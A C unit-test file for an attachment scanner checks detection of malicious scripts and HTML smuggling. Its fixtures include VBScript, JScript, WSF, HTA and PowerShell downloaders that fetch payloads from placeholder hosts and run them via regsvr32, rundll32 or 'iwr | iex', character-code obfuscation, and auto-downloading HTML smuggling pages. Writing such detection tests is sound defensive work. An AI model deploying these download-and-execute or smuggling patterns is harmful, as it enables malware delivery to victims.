/* Scripts and HTML attachments: classification, Script Encoder decoding (against our own encoder),
 * downloaders and executors, string-building tricks, HTML smuggling with the smuggled file
 * extracted as a child. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "core/buf.h"
#include "emoguard/emoguard.h"
#include "payload/payload.h"
#include "payload_fixtures.h"
#include "testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static eg_report *scan_named(const void *data, size_t len, const char *name)
{
    eg_options opt;
    eg_options_default(&opt);
    eg_scanner *sc = NULL;
    char err[200];
    eg_report *warm = eg_test_scan("x", 1, NULL); /* makes sure eg_global_init ran */
    eg_report_free(warm);
    assert_int_equal(eg_scanner_new(&opt, &sc, err, sizeof err), EG_OK);
    eg_scan_input in = {.source = name, .data = data, .len = len};
    eg_report *r = NULL;
    assert_int_equal(eg_scanner_scan(sc, &in, &r), EG_OK);
    eg_scanner_free(sc);
    return r;
}

static bool rule_on(const eg_report *r, const char *rule, uint32_t obj)
{
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (f->object == obj && !strcmp(eg_rule_get(f->rule)->id, rule))
            return true;
    }
    return false;
}

static const char *evidence_of(const eg_report *r, const char *rule)
{
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (!strcmp(eg_rule_get(f->rule)->id, rule))
            return f->evidence ? f->evidence : "";
    }
    return NULL;
}

static const eg_object *child_of(const eg_report *r, uint32_t parent)
{
    for (size_t i = 0; i < eg_report_object_count(r); i++) {
        const eg_object *o = eg_report_object(r, i);
        if (o->parent == (int32_t)parent)
            return o;
    }
    return NULL;
}

static const char vbs_downloader[] =
    "On Error Resume Next\r\n"
    "Dim x: Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
    "x.Open \"GET\", \"http://\" & \"mal.example.test/\" & Chr(100) & Chr(108) & Chr(108), False\r\n"
    "x.Send\r\n"
    "Set s = CreateObject(\"ADODB.Stream\")\r\n"
    "s.Open: s.Type = 1: s.Write x.ResponseBody: s.SaveToFile \"C:\\Users\\Public\\a.ocx\", 2\r\n"
    "CreateObject(\"WScript.Shell\").Run \"regsvr32 /s C:\\Users\\Public\\a.ocx\", 0\r\n";

static void vbs_download_execute(void **st)
{
    (void)st;
    eg_report *r = scan_named(vbs_downloader, sizeof vbs_downloader - 1, "invoice.vbs");
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    assert_non_null(strstr(evidence_of(r, "SCRIPT.DOWNLOAD_EXECUTE"), "msxml2.xmlhttp"));
    assert_non_null(strstr(evidence_of(r, "CMD.REGSVR32"), "C:\\Users\\Public\\a.ocx"));
    bool url = false;
    for (size_t i = 0; i < eg_report_ioc_count(r); i++)
        url |= !strcmp(eg_report_ioc(r, i)->value, "http://mal.example.test/dll");
    assert_true(url); /* "http://" & "..." & Chr(100) ... joined */
    eg_report_free(r);
}

static void encoder_round_trip(void **st)
{
    (void)st;
    const char *plain = "MsgBox \"Hello <world> @ 100%\"\r\n\tWScript.Echo 1 + 2 ' comment ~`|{}\r\n";
    size_t n;
    char *enc = eg_test_script_encode(plain, &n);
    assert_non_null(enc);
    assert_null(strstr(enc, "MsgBox")); /* really encoded */
    eg_buf out;
    eg_buf_init(&out, 1 << 20);
    int blocks = 0;
    assert_int_equal(eg_script_decode_encoded(enc, n, &out, &blocks), EG_OK);
    assert_int_equal(blocks, 1);
    assert_int_equal(out.len, strlen(plain));
    assert_memory_equal(out.data, plain, out.len);
    eg_buf_free(&out);
    /* text around the block is kept, a cut block is copied as it is */
    char wrapped[4096];
    snprintf(wrapped, sizeof wrapped, "<script language=\"VBScript.Encode\">%s</script>", enc);
    eg_buf_init(&out, 1 << 20);
    assert_int_equal(eg_script_decode_encoded(wrapped, strlen(wrapped), &out, &blocks), EG_OK);
    assert_int_equal(blocks, 1);
    assert_non_null(strstr((char *)out.data, "<script language=\"VBScript.Encode\">MsgBox \"Hello <world>"));
    eg_buf_free(&out);
    eg_buf_init(&out, 1 << 20);
    assert_int_equal(eg_script_decode_encoded(enc, n / 2, &out, &blocks), EG_OK);
    assert_int_equal(blocks, 0);
    eg_buf_free(&out);
    free(enc);
}

static void vbe_downloader(void **st)
{
    (void)st;
    size_t n;
    char *enc = eg_test_script_encode(vbs_downloader, &n);
    assert_non_null(enc);
    eg_report *r = scan_named(enc, n, "document.vbe");
    assert_true(rule_on(r, "SCRIPT.ENCODED", 0));
    const eg_object *c = child_of(r, 0);
    assert_non_null(c);
    assert_string_equal(c->name, "[decoded VBScript]");
    assert_int_equal(c->size, sizeof vbs_downloader - 1);
    assert_true(rule_on(r, "SCRIPT.DOWNLOAD_EXECUTE", c->id));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(enc);
}

static void jse_downloader(void **st)
{
    (void)st;
    const char js[] = "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n"
                      "x.open(\"GET\", \"http://jse.example.test/p.dll\", false); x.send();\r\n"
                      "var s = new ActiveXObject(\"ADODB.Stream\"); s.Open(); s.Type = 1; s.Write(x.ResponseBody);\r\n"
                      "s.SaveToFile(\"C:\\\\ProgramData\\\\p.dll\", 2);\r\n"
                      "new ActiveXObject(\"WScript.Shell\").Run(\"rundll32 C:\\\\ProgramData\\\\p.dll,Start\", 0);\r\n";
    size_t n;
    char *enc = eg_test_script_encode(js, &n);
    assert_non_null(enc);
    eg_report *r = scan_named(enc, n, "scan.jse");
    const eg_object *c = child_of(r, 0);
    assert_non_null(c);
    assert_string_equal(c->name, "[decoded JScript]");
    assert_true(rule_on(r, "SCRIPT.ENCODED", 0));
    assert_true(rule_on(r, "SCRIPT.DOWNLOAD_EXECUTE", c->id));
    assert_true(rule_on(r, "CMD.RUNDLL32", c->id));
    eg_report_free(r);
    free(enc);
}

static void js_wsf_hta_ps1(void **st)
{
    (void)st;
    const char js[] = "var w = new ActiveXObject('WScript.Shell');\n"
                      "var x = new ActiveXObject('MSXML2.ServerXMLHTTP');\n"
                      "x.open('GET', 'https://cdn.example.test/' + 'loader.bin', false); x.send();\n"
                      "w.Run('rundll32 ' + String.fromCharCode(67,58,92,116,92,97,46,100,108,108) + ',Start', 0);\n";
    eg_report *r = scan_named(js, sizeof js - 1, "scan_2023.js");
    assert_true(eg_test_has_rule(r, "SCRIPT.DOWNLOAD_EXECUTE"));
    assert_non_null(strstr(evidence_of(r, "CMD.RUNDLL32"), "C:\\t\\a.dll"));
    eg_report_free(r);

    const char wsf[] = "<job id=\"a\"><script language=\"VBScript\">\n"
                       "Set o = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\n"
                       "o.Open \"GET\", \"http://w.example.test/rad.dll\", False: o.Send\n"
                       "CreateObject(\"Shell.Application\").ShellExecute \"regsvr32.exe\", \"rad.dll\"\n"
                       "</script></job>\n";
    r = scan_named(wsf, sizeof wsf - 1, "click.wsf");
    assert_non_null(strstr(evidence_of(r, "SCRIPT.DOWNLOAD_EXECUTE"), "Windows Script File"));
    eg_report_free(r);

    const char hta[] = "<html><head><HTA:APPLICATION id=\"x\" windowstate=\"minimize\"></head>\n"
                       "<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run "
                       "\"powershell -w hidden -c iwr http://h.example.test/p.ps1 | iex\", 0: window.close</script></html>";
    r = scan_named(hta, sizeof hta - 1, "view.hta");
    assert_true(eg_test_has_rule(r, "CMD.DOWNLOAD_EXECUTE"));
    assert_true(eg_test_has_rule(r, "CMD.HIDDEN_WINDOW"));
    eg_report_free(r);

    const char ps1[] = "$u = 'http://p.example.test/a.dll'\n$o = \"$env:TEMP\\a.dll\"\n"
                       "Invoke-WebRequest -Uri $u -OutFile $o\nStart-Process regsvr32 -ArgumentList '/s', $o\n";
    r = scan_named(ps1, sizeof ps1 - 1, "update.ps1");
    assert_true(eg_test_has_rule(r, "CMD.DOWNLOAD_EXECUTE"));
    eg_report_free(r);
}

static void benign_scripts(void **st)
{
    (void)st;
    const char vbs[] = "Option Explicit\r\nDim total\r\ntotal = 1 + 2\r\nMsgBox \"合計: \" & total\r\n";
    eg_report *r = scan_named(vbs, sizeof vbs - 1, "sum.vbs");
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const char *id = eg_rule_get(eg_report_finding(r, i)->rule)->id;
        assert_true(strncmp(id, "SCRIPT.", 7) != 0 && strncmp(id, "CMD.", 4) != 0);
    }
    eg_report_free(r);
}

static void obfuscated_chr(void **st)
{
    (void)st;
    char vbs[4096] = "Dim s\r\ns = ";
    const char *word = "powershell -nop -c calc";
    for (const char *p = word; *p; p++) {
        char part[32];
        snprintf(part, sizeof part, "%sChr(%d)", p == word ? "" : " & ", *p);
        strcat(vbs, part);
    }
    strcat(vbs, "\r\nCreateObject(\"WScript.Shell\").Run s\r\n");
    eg_report *r = scan_named(vbs, strlen(vbs), "x.vbs");
    assert_non_null(strstr(evidence_of(r, "SCRIPT.OBFUSCATED"), "character codes"));
    assert_true(eg_test_has_rule(r, "SCRIPT.EXECUTES"));
    eg_report_free(r);
}

/* ---- HTML smuggling ---- */

static char *b64(const uint8_t *p, size_t n)
{
    static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char *o = malloc(n / 3 * 4 + 8), *q = o;
    size_t i = 0;
    for (; i + 2 < n; i += 3) {
        uint32_t v = (uint32_t)p[i] << 16 | (uint32_t)p[i + 1] << 8 | p[i + 2];
        *q++ = a[v >> 18];
        *q++ = a[(v >> 12) & 63];
        *q++ = a[(v >> 6) & 63];
        *q++ = a[v & 63];
    }
    if (i < n) {
        uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0);
        *q++ = a[v >> 18];
        *q++ = a[(v >> 12) & 63];
        *q++ = i + 1 < n ? a[(v >> 6) & 63] : '=';
        *q++ = '=';
    }
    *q = 0;
    return o;
}

static void html_data_uri(void **st)
{
    (void)st;
    /* a shortcut that runs cmd, smuggled in a data: URI with a download attribute */
    eg_test_lnk t = {.relative_path = "..\\..\\Windows\\system32\\cmd.exe", .arguments = "/c start http://x.example.test/"};
    size_t n;
    uint8_t *lnk = eg_test_lnk_build(&t, &n);
    char *enc = b64(lnk, n);
    size_t hl = strlen(enc) + 512;
    char *html = malloc(hl);
    snprintf(html, hl, "<!DOCTYPE html><html><body><img src=\"data:image/png;base64,iVBORw0KGgo=\">"
                       "<a id=\"d\" href=\"data:application/octet-stream;base64,%s\" download=\"Invoice_0425.lnk\">"
                       "open</a><script>document.getElementById('d').click();</script></body></html>", enc);
    eg_report *r = scan_named(html, strlen(html), "invoice.html");
    assert_non_null(strstr(evidence_of(r, "HTML.SMUGGLING"), "Invoice_0425.lnk"));
    const eg_object *c = child_of(r, 0);
    assert_non_null(c);
    assert_string_equal(c->name, "Invoice_0425.lnk");
    assert_int_equal(c->type, EG_T_LNK);
    assert_int_equal(c->size, n);
    assert_true(rule_on(r, "LNK.RUNS_INTERPRETER", c->id));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(html);
    free(enc);
    free(lnk);
}

static void html_blob(void **st)
{
    (void)st;
    /* a ZIP-like payload split into string pieces, turned into a Blob and saved */
    uint8_t zip[600];
    memcpy(zip, "PK\3\4", 4);
    for (size_t i = 4; i < sizeof zip; i++)
        zip[i] = (uint8_t)(i * 7 + 3);
    char *enc = b64(zip, sizeof zip);
    size_t el = strlen(enc), half = el / 2 / 4 * 4;
    char *html = malloc(el + 1024);
    sprintf(html, "<html><body><script>\nvar d = \"%.*s\" +\n  \"%s\";\n"
                  "var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))], {type: 'application/zip'});\n"
                  "if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(b, 'scan_0503.zip');\n"
                  "else { var a = document.createElement('a'); a.href = URL.createObjectURL(b);\n"
                  "a.download = 'scan_0503.zip'; a.click(); }\n</script></body></html>",
            (int)half, enc, enc + half);
    eg_report *r = scan_named(html, strlen(html), "scan.htm");
    const char *ev = evidence_of(r, "HTML.SMUGGLING");
    assert_non_null(ev);
    assert_non_null(strstr(ev, "scan_0503.zip"));
    const eg_object *c = child_of(r, 0);
    assert_non_null(c);
    assert_int_equal(c->size, sizeof zip);
    assert_string_equal(c->name, "scan_0503.zip");
    eg_report_free(r);
    free(html);
    free(enc);
}

/* a smuggled script (text) is extracted; an image the page decodes is not a smuggled file */
static void html_blob_text_and_image(void **st)
{
    (void)st;
    const char js[] = "var s = new ActiveXObject('WScript.Shell'); s.Run('powershell -w hidden -c iwr "
                      "http://blobjs.example.test/x.ps1 | iex', 0);";
    char *ej = b64((const uint8_t *)js, sizeof js - 1);
    uint8_t png[120] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};
    for (size_t i = 8; i < sizeof png; i++)
        png[i] = (uint8_t)(i * 13);
    char *ep = b64(png, sizeof png);
    char html[4096];
    snprintf(html, sizeof html, "<html><script>var logo = \"%s\";\nvar p = \"%s\";\n"
                                "var b = new Blob([atob(p)], {type: 'text/javascript'});\n"
                                "var a = document.createElement('a'); a.href = URL.createObjectURL(b);\n"
                                "a.download = 'Invoice.js'; a.click();</script></html>", ep, ej);
    eg_report *r = scan_named(html, strlen(html), "invoice.html");
    assert_int_equal(eg_report_object_count(r), 2);
    const eg_object *c = child_of(r, 0);
    assert_string_equal(c->name, "Invoice.js");
    assert_int_equal(c->type, EG_T_SCRIPT);
    assert_true(rule_on(r, "HTML.SMUGGLING", 0));
    assert_true(rule_on(r, "CMD.DOWNLOAD_EXECUTE", c->id));
    eg_report_free(r);
    free(ej);
    free(ep);
}

static void html_plain(void **st)
{
    (void)st;
    const char html[] = "<html><body><p>会議の資料です。<a href=\"https://intra.example.test/doc\">こちら</a></p>"
                        "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"></body></html>";
    eg_report *r = scan_named(html, sizeof html - 1, "mail.html");
    assert_false(eg_test_has_rule(r, "HTML.SMUGGLING"));
    assert_false(eg_test_has_rule(r, "HTML.SMUGGLING_CODE"));
    assert_false(eg_test_has_rule(r, "HTML.EMBEDDED_FILE"));
    assert_int_equal(eg_report_object_count(r), 1);
    bool url = false;
    for (size_t i = 0; i < eg_report_ioc_count(r); i++)
        url |= !strcmp(eg_report_ioc(r, i)->value, "https://intra.example.test/doc");
    assert_true(url);
    eg_report_free(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(vbs_download_execute), cmocka_unit_test(encoder_round_trip),
        cmocka_unit_test(vbe_downloader),       cmocka_unit_test(jse_downloader),
        cmocka_unit_test(js_wsf_hta_ps1),
        cmocka_unit_test(benign_scripts),       cmocka_unit_test(obfuscated_chr),
        cmocka_unit_test(html_data_uri),        cmocka_unit_test(html_blob),
        cmocka_unit_test(html_blob_text_and_image), cmocka_unit_test(html_plain),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
